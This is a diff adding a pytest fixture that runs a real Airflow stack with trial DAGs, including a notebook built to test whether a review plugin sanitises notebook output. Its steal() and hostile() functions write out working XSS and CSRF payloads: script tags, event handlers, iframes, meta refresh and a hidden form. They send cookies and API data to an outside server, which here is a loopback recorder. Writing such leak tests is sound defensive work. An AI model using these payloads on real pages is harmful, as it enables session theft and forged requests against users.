@@ -1,0 +1,177 @@
+"""A real Airflow for the tests: scheduler, DAG processor and API server on SQLite, with our DAGs and DAGs of trials."""
+
+import html
+import threading
+import time
+from contextlib import contextmanager
+from datetime import datetime, timedelta
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from types import SimpleNamespace
+from zoneinfo import ZoneInfo
+
+import nbformat
+import pytest
+import requests
+
+from pulsebook.local import sample, services
+from pulsebook.local.processes import Crew
+from pulsebook.settings import ROOT
+from tests.bot_api import bot_api
+
+MOSCOW = ZoneInfo("Europe/Moscow")
+TOKEN = "123456789:AAF-a_secret-token_of-the-bot_01234"
+TRIALS = """
+from datetime import timedelta
+from airflow.sdk import DAG
+from pulsebook.airflow.callbacks import tell_operations
+from pulsebook.airflow.operator import NotebookOperator
+
+with DAG("trials", schedule=None, default_args={"on_failure_callback": tell_operations}):
+    report = {"run_date": "2026-01-05", "post": True}
+    NotebookOperator(task_id="missing_day", notebook="reports/feed_report.ipynb", parameters=report)
+    NotebookOperator(task_id="too_long", notebook="SLOW", execution_timeout=timedelta(seconds=8))
+    NotebookOperator(task_id="marked_failed", notebook="SLOW")
+    NotebookOperator(task_id="slow_cell", notebook="SLOW", cell_timeout=3.0)
+
+with DAG("pages", schedule=None):
+    NotebookOperator(task_id="missing_day", notebook="reports/feed_report.ipynb", parameters={"run_date": "2026-01-05"})
+    NotebookOperator(task_id="hostile", notebook="HOSTILE")
+"""
+SLOW = ["import os, time\nprint('kernel', os.getpid())", "time.sleep(600)", "print('never')"]
+
+
+def steal(elsewhere: str, way: str) -> str:
+    """A script that takes what it can get of the session of whoever looks at it, and tells another server."""
+    return f"""
+        parent.document.title = document.title = "taken over";
+        (new Image).src = "{elsewhere}/{way}?" + encodeURIComponent(document.cookie);
+        fetch("/api/v2/dags", {{credentials: "include"}}).then(a => a.text()).then(t => fetch("{elsewhere}/{way}?" + t.length));
+    """
+
+
+def hostile(elsewhere: str) -> str:
+    """The code of a cell whose outputs try it in every way."""
+
+    def quoted(way: str) -> str:
+        return html.escape(steal(elsewhere, way))
+
+    tricks = [
+        f"<script>{steal(elsewhere, 'script')}</script>",
+        f'<img src="data:," onerror="{quoted("handler")}"><svg onload="{quoted("svg")}"></svg>',
+        f'<iframe srcdoc="&lt;script&gt;{quoted("frame")}&lt;/script&gt;"></iframe>',
+        f'<iframe src="data:text/html,&lt;script&gt;{quoted("data")}&lt;/script&gt;"></iframe>',
+        f'<iframe src="javascript:{quoted("address")}"></iframe>',
+        f'<link rel="stylesheet" href="{elsewhere}/style"><img src="{elsewhere}/picture">',
+        f'<meta http-equiv="refresh" content="1; url={elsewhere}/refresh">',
+        '<form id="form" method="post" action="/api/v2/dags/etl/dagRuns"><input type="submit"></form>',
+        '<p id="harmless">what the notebook shows</p>',
+    ]
+    return f"from IPython.display import HTML, display\nfor trick in {tricks!r}:\n    display(HTML(trick))"
+
+
+def notebook(*code: str, title: str = "## Wait", summary: str = ""):
+    """A notebook of some code cells under a heading."""
+    cells = [nbformat.v4.new_markdown_cell(title), *map(nbformat.v4.new_code_cell, code)]
+    if summary:
+        cells += [nbformat.v4.new_markdown_cell("## Summary"), nbformat.v4.new_code_cell(summary)]
+    kernel = {"name": "python3", "language": "python", "display_name": "Python 3"}
+    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})
+
+
+@contextmanager
+def recorder():
+    """A server on loopback that answers everything with nothing: `url`, and the paths that were asked for (`asked`)."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(204)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    listener = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=listener.serve_forever, daemon=True).start()
+    yield SimpleNamespace(url=f"http://127.0.0.1:{listener.server_port}", asked=asked)
+    listener.shutdown()
+    listener.server_close()
+
+
+def until(happens, seconds: float, what: str):
+    """Wait for a condition; returns its value."""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        if value := happens():
+            return value
+        time.sleep(0.5)
+    pytest.fail(f"{what} did not happen within {seconds:g} s")
+
+
+@pytest.fixture(scope="session")
+def airflow(server, tmp_path_factory):
+    """The services, started as `make up` starts them; the bot's token stands in an Airflow Connection.
+
+    `cli` runs a command, `api` a request as admin, `page` one for a page of the review plugin as whoever `how` says;
+    `elsewhere` is a server of which no page may know: what reached it, and its `url`.
+    """
+    home = tmp_path_factory.mktemp("airflow")
+    folder, outputs, port = home / "dags", home / "outputs", services.free_port()
+    folder.mkdir()
+    for dag in (ROOT / "dags").glob("*.py"):
+        (folder / dag.name).symlink_to(dag)
+    known = services.passwords(home, "admin", "viewer")
+    served = services.served(home, port, folder, users="admin:admin,viewer:viewer")
+    environment = {
+        **{name: value for name, value in served.items() if not name.startswith("PULSEBOOK_")},
+        "AIRFLOW__CORE__AUTH_MANAGER": "tests.per_dag.PerDag",
+        "PULSEBOOK_CLICKHOUSE_URL": server,
+        "PULSEBOOK_SOURCE_DATABASE": "airflow_source",
+        "PULSEBOOK_TARGET_DATABASE": "airflow_target",
+        "PULSEBOOK_OUTPUTS": str(outputs),
+    }
+    address = environment["AIRFLOW__API__BASE_URL"]
+    sample.fill(sample.http(server), 8, 1000, 1, None, "Europe/Moscow", "airflow_source")
+    outage = datetime.now(MOSCOW).replace(hour=11, minute=0, second=0, microsecond=0) - timedelta(days=3)
+
+    def cli(*words: str) -> str:
+        return services.run(environment, *words)
+
+    def bearer(user: str = "admin") -> dict:
+        return services.bearer(address, user, known[user])
+
+    def page(path: str, **how):
+        return requests.get(f"{address}/pulsebook/{path}", timeout=90, **how)
+
+    def api(method: str, path: str, **body):
+        answer = requests.request(method, f"{address}/api/v2{path}", json=body or None, headers=bearer(), timeout=90)
+        assert answer.ok, answer.text
+        return answer.json()
+
+    cli("db", "migrate")
+    crew = Crew(home / "crew")
+    with bot_api() as bot, recorder() as elsewhere:
+        nbformat.write(notebook(*SLOW), home / "slow.ipynb")
+        summary = "print('42 rows of trial')"
+        tricks = notebook(hostile(elsewhere.url), title="# Hostile\nIt tries.", summary=summary)
+        nbformat.write(tricks, home / "hostile.ipynb")
+        trials = TRIALS.replace("SLOW", str(home / "slow.ipynb")).replace("HOSTILE", str(home / "hostile.ipynb"))
+        (folder / "trials.py").write_text(trials)
+        try:
+            cli("connections", "add", "pulsebook_telegram", "--conn-type", "generic", "--conn-host", bot.url,
+                "--conn-login", "-42", "--conn-password", TOKEN, "--conn-extra", '{"ops_chat_id": "-7"}')  # fmt: skip
+            services.start(crew, environment)
+            crew.wait_for(lambda: services.healthy(address), 120, "Airflow in good health")
+            ids = {"trials", "pages", *(path.stem for path in (ROOT / "dags").glob("*.py"))}
+            crew.wait_for(lambda: {d["dag_id"] for d in api("GET", "/dags")["dags"]} >= ids, 90, "all DAGs")
+            yield SimpleNamespace(
+                cli=cli, api=api, page=page, bearer=bearer, outputs=outputs, bot=bot, home=home, outage=outage,
+                address=address, passwords=known, elsewhere=elsewhere,
+            )  # fmt: skip
+        finally:
+            crew.stop()
+            assert not crew.processes(), "nothing is left running"
